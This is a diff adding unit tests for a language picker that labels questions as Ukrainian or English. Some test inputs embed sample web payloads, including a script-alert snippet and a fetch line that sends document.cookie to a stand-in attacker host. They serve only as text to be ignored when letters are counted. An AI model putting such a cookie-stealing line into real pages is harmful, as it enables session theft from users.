@@ -24,6 +24,26 @@ describe("pickLang", () => {
     expect(pickLang({ text: "Who is Sergio Gor and/or his deputy?", languageCode: "uk" })).toBe("en");
   });
 
+  it("does not count the letters of HTML-like tags, entities and code: «Хто такий <script>alert(1)</script> & Кличко?» is Ukrainian", () => {
+    expect(pickLang({ text: "Хто такий <script>alert(1)</script> & Кличко?", languageCode: "uk" })).toBe("uk");
+    expect(pickLang({ text: "Хто такий <script>alert(1)</script> & Кличко?" }, "en")).toBe("uk");
+    expect(pickLang({ text: "Що означає <b>НАТО</b> &amp; <i>ЄС</i>?", languageCode: "en" })).toBe("uk");
+    expect(pickLang({ text: "Що робить `console.log(document.cookie)` у статті?", languageCode: "en" })).toBe("uk");
+    expect(pickLang({ text: "Що робить ```\nfetch('https://evil.example/steal?c=' + document.cookie)\n``` тут?", languageCode: "en" })).toBe("uk");
+    expect(pickLang({ text: "What does <!-- коментар --> <div class='новина'>mean</div>?", languageCode: "uk" })).toBe("en");
+    // "2 < 3 and 5 > 4" holds no tag.
+    expect(pickLang({ text: "Is 2 < 3 and 5 > 4?", languageCode: "uk" })).toBe("en");
+  });
+
+  it("lets the client's language decide when the question's letters are mixed", () => {
+    expect(pickLang({ text: "Що сказав Donald Trump про NATO?", languageCode: "uk" })).toBe("uk");
+    expect(pickLang({ text: "Що сказав Donald Trump про NATO?", languageCode: "en" })).toBe("en");
+    expect(pickLang({ text: "What did Зеленський say?", languageCode: "uk" })).toBe("uk");
+    // Without one, the script with more letters.
+    expect(pickLang({ text: "Що сказав Donald Trump про NATO?" })).toBe("en");
+    expect(pickLang({ text: "Що сказав Трамп про Donald Tusk?" })).toBe("uk");
+  });
+
   it("falls back to the client's language, then to the given default", () => {
     expect(pickLang({ text: "42?", languageCode: "en-GB" })).toBe("en");
     expect(pickLang({ text: "", languageCode: "de" })).toBe("uk");
